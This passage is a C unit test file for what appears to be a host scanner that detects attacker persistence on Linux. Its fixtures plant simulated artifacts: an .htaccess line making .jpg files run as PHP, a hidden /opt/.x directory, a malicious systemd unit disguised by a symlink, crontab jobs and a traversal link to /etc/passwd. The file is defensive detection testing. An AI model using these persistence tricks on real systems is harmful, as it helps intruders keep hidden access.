    for (size_t i = 0; i < ARRAY_COUNT(rows); i++) {
        struct linux_host host;
        begin(&host);
        linux_write(&host, "tmp/x.so", "x", 1);
        linux_write(&host, "etc/apache2/apache2.conf", rows[i].line, strlen(rows[i].line));
        linux_run(&host,
                  (collect_source_function *const[]){state_server, collect_persist_servers, NULL});
        assert_int_equal(linux_count(&host, "persistence"), rows[i].said ? 1 : 0);
        if (rows[i].said) {
            assert_string_equal(linux_only(&host, "persistence", "runs"), rows[i].said);
            assert_string_equal(linux_only(&host, "persistence", "origin"), rows[i].origin);
        }
        linux_end(&host);
    }
}

/* One folder that nobody needs must not hide what lies beside it. */
static void a_folder_too_deep_ends_no_walk(void **state)
{
    static const char text[] = "AddHandler application/x-httpd-php .jpg\n";
    struct linux_host host;
    CLEANUP_STR struct str deep = {0};
    begin(&host);
    str_add(&deep, "var/www/html/a");
    for (unsigned i = 0; i < 70; i++)
        str_add(&deep, "/d");
    str_add(&deep, "/x");
    linux_write(&host, str_text(&deep), "x", 1);
    linux_write(&host, "var/www/html/z/.htaccess", text, strlen(text));
    linux_run(&host, (collect_source_function *const[]){collect_persist_servers, NULL});
    assert_non_null(harness_find(&host.h, "persistence", "path", "/var/www/html/z/.htaccess"));
    assert_int_equal(linux_count(&host, "unread"), 1);
    assert_int_equal(linux_count(&host, "persistence"), 2);
    linux_end(&host);
}

/* Anybody may have a crontab, and it is a megabyte at most: nobody's settings cost what there is of
 * memory, and so hide the jobs of others. */
static void settings_of_a_crontab_are_bounded(void **state)
{
    enum { MANY = 300000, MOST_BYTES = 64 << 20 };
    struct linux_host host;
    struct rusage before, after;
    CLEANUP_STR struct str text = {0};
    begin(&host);
    str_add(&text, "PATH=/opt/.x\n");
    for (int i = 0; i < MANY; i++)
        str_add(&text, "A=\n");
    str_add(&text, "* * * * * x\n");
    linux_write(&host, "var/spool/cron/crontabs/www-data", str_text(&text), text.length);
    linux_write(&host, "var/spool/cron/crontabs/zzz", "* * * * * /z\n", 13);
    getrusage(RUSAGE_SELF, &before);
    linux_run(&host, (collect_source_function *const[]){collect_persist_cron, NULL});
    getrusage(RUSAGE_SELF, &after);
#ifndef __SANITIZE_ADDRESS__ /* which keeps for a while what was given back */
    assert_true(after.ru_maxrss - before.ru_maxrss < MOST_BYTES / 1024);
#endif
    assert_non_null(harness_find(&host.h, "persistence", "runs", "/z"));
    const struct fact *f = harness_find(&host.h, "persistence", "user", "www-data");
    assert_int_equal(strncmp(harness_value(f, "runs"), "PATH=/opt/.x A=", 15), 0);
    assert_true(says_unread(&host, "/var/spool/cron/crontabs/www-data"));
    linux_end(&host);
}

/* Nor do files that the server itself may write: one at a time is held. */
static void many_large_files_cost_one(void **state)
{
    enum { FILES = 100, SIZE = 1000 * 1000, MOST_BYTES = 32 << 20 };
    struct linux_host host;
    struct rusage before, after;
    CLEANUP_STR struct str text = {0};
    begin(&host);
    str_add(&text, "AddHandler application/x-httpd-php .jpg\n");
    while (text.length < SIZE)
        str_add(&text, "# and nothing more: a comment\n");
    for (int i = 0; i < FILES; i++) {
        CLEANUP_STR struct str path = {0};
        str_printf(&path, "var/www/html/%d/.htaccess", i);
        linux_write(&host, str_text(&path), str_text(&text), text.length);
    }
    getrusage(RUSAGE_SELF, &before);
    linux_run(&host, (collect_source_function *const[]){collect_persist_servers, NULL});
    getrusage(RUSAGE_SELF, &after);
#ifndef __SANITIZE_ADDRESS__ /* which keeps for a while what was given back */
    assert_true(after.ru_maxrss - before.ru_maxrss < MOST_BYTES / 1024);
#endif
    assert_int_equal(linux_count(&host, "persistence"), FILES);
    linux_end(&host);
}

static void links_are_followed_within_the_root(void **state)
{
    struct linux_host host;
    begin(&host);
    linux_write(&host, "opt/.x/evil.service", "[Service]\nExecStart=/opt/.x/a\n", 30);
    linux_link(&host, "etc/systemd/system/nice.service", "/opt/.x/evil.service");
    linux_link(&host, "etc/cron.d/out", "../../../../../../../../etc/passwd");
    linux_run(&host, all_sources);
    const struct fact *f = harness_find(&host.h, "persistence", "way", "unit");
    assert_string_equal(harness_value(f, "leads_to"), "/opt/.x/evil.service");
    /* the root's own passwd: no line of it is a job */
    assert_int_equal(linux_count(&host, "persistence"), 1);
    linux_end(&host);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(what_packages_brought_is_nothing_to_look_at),
        cmocka_unit_test(each_plant_is_found),
        cmocka_unit_test(a_key_is_named_as_sshd_names_it),
        cmocka_unit_test(a_key_that_is_no_base64_has_a_fingerprint_nobody_knows),
        cmocka_unit_test(programs_with_more_rights_are_found),
        cmocka_unit_test(files_of_packages_are_compared_and_remembered),
        cmocka_unit_test(more_files_than_are_stated_are_said),
        cmocka_unit_test(a_list_that_cannot_be_read_is_said),
        cmocka_unit_test(what_has_just_changed_is_not_remembered),
        cmocka_unit_test(many_threads_say_what_one_says),
        cmocka_unit_test(a_package_without_checksums_is_not_compared_and_said_once),
        cmocka_unit_test(a_scan_that_was_broken_off_goes_on_in_its_session_and_no_longer),
        cmocka_unit_test(accounts_are_told_apart),
        cmocka_unit_test(a_user_is_local_or_of_a_directory),
        cmocka_unit_test(sessions_are_read),
        cmocka_unit_test(logins_of_utmp_are_sessions),
        cmocka_unit_test(what_cannot_be_read_is_never_clean),
        cmocka_unit_test(a_link_through_a_linked_folder_deceives_nobody),
        cmocka_unit_test(a_sparse_file_is_not_read_to_its_end),
        cmocka_unit_test(modules_that_a_server_loads_are_looked_at),
        cmocka_unit_test(a_folder_too_deep_ends_no_walk),
        cmocka_unit_test(links_are_followed_within_the_root),
        cmocka_unit_test(many_large_files_cost_one),
        cmocka_unit_test(settings_of_a_crontab_are_bounded),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
